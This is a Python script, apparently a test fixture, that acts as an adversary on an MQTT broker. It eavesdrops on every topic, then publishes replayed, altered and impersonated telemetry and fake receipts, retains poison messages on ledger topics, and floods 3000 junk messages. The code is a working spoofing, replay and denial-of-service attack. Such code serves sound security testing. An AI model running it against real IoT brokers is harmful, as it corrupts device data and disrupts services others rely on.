"""What somebody who means harm does on a public broker; run in a container, by paho.

Reads everything, and publishes forgeries of what it read, poison for machines and a flood, all
under the prefix that it has seen. Prints JSON: the prefix, and how many of each it sent.
"""

import json
import sys
import time

import paho.mqtt.client as mqtt

heard, settled = [], set()
client = mqtt.Client(mqtt.CallbackAPIVersion.VERSION2, protocol=mqtt.MQTTv5)
client.tls_set(sys.argv[1])
client.on_message = lambda _c, _u, message: heard.append((message.topic, message.payload))
client.on_publish = lambda _c, _u, mid, _reason, _p: settled.add(mid)
client.connect("public-broker", 8883)
client.loop_start()
while not client.is_connected():
    time.sleep(0.05)
client.subscribe("#", qos=1)
end = time.monotonic() + 20
while time.monotonic() < end and sum(b'"readings"' in body for _, body in heard) < 40:
    time.sleep(0.1)
signed = [(topic, body) for topic, body in heard if b'"readings"' in body][:40]
prefix = signed[0][0].split("/")[0]
sent = []


def send(topic, body, **how):
    sent.append(client.publish(topic, body, qos=1, **how).mid)


for topic, body in signed:
    send(topic, body.replace(b'"seq":', b'"seq":9', 1))  # another number
    send(topic, body)  # once more
    send(topic.replace("-0", "-1"), body)  # as another machine
    send(f"{topic.rpartition('/')[0]}/receipt", b'{"leaf":"{}","index":0}')
forged = len(sent)
for kind in ("ledger/checkpoint", "ledger/collector/x"):
    send(f"{prefix}/{kind}", b"poison", retain=True)
for number in range(3000):
    send(f"{prefix}/a/b/c/d/x{number % 7}/telemetry", b"x" * 500)
end = time.monotonic() + 20
while time.monotonic() < end and len(settled) < len(sent):
    time.sleep(0.1)
client.loop_stop()
print(json.dumps({"prefix": prefix, "forged": forged, "flood": 3000, "sent": len(settled)}))  # noqa: T201
